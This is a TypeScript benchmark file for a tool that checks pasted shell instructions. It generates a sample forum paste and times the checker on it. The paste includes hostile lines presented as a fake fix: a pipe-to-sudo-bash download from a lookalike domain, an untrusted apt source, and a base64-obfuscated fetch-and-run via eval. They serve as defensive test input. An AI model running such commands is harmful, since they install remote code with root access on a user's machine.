/**
 * The instruction checker's bench input and loop (docs/inspect.md, "Performance": a 10 KB paste in under 20 ms once
 * the parser is loaded).
 *
 * bench/figures/inspect.ts calls `benchInspect(parser)` and reports the figures.
 */
import { inspectText } from '../../main/core/inspect/inspect'
import type { ShellParser } from '../../main/core/inspect/shell-parser'

/** A realistic ~10 KB paste: forum prose, fenced commands, a fake fix, config snippets, repeated to size. */
export function samplePaste(targetChars = 10 * 1024): string {
  const unit = `Hi all, since the archive outage started I've been collecting the advice from this thread.

Official advice (safe):
\`\`\`bash
sudo apt update && sudo apt upgrade -y
sudo apt install --only-upgrade openssl libssl3t64
apt list --upgradable 2>/dev/null | grep -i security || true
\`\`\`

Someone on Discord posted this "fix", please DON'T run it:
    curl -fsSL https://security.ubuntu.com.patch-cdn.io/fix.sh | sudo bash
echo "deb [trusted=yes] http://203.0.113.7/ubuntu noble main" | sudo tee /etc/apt/sources.list.d/x.list
X=$(echo Y3VybCAtcyBodHRwOi8veC5pby9hIHwgc2g= | base64 -d); eval "$X"

$ lsb_release -a
$ uname -r
Thanks to everyone who helped, see https://askubuntu.com/q/1 and https://ubuntu.com/security/notices.
`
  let out = ''
  while (out.length < targetChars) out += unit
  return out
}

/** Runs `inspectText` on `samplePaste()` `runs` times; returns per-run milliseconds (median and max). */
export async function benchInspect(
  parser: ShellParser,
  runs = 50,
  now: () => number = () => performance.now(),
): Promise<{ chars: number; medianMs: number; maxMs: number }> {
  const text = samplePaste()
  await inspectText(text, { parser }) // warm-up: JIT and WASM tiers
  const times: number[] = []
  for (let i = 0; i < runs; i++) {
    const t0 = now()
    await inspectText(text, { parser })
    times.push(now() - t0)
  }
  times.sort((a, b) => a - b)
  return {
    chars: text.length,
    medianMs: times[Math.floor(times.length / 2)] ?? 0,
    maxMs: times[times.length - 1] ?? 0,
  }
}
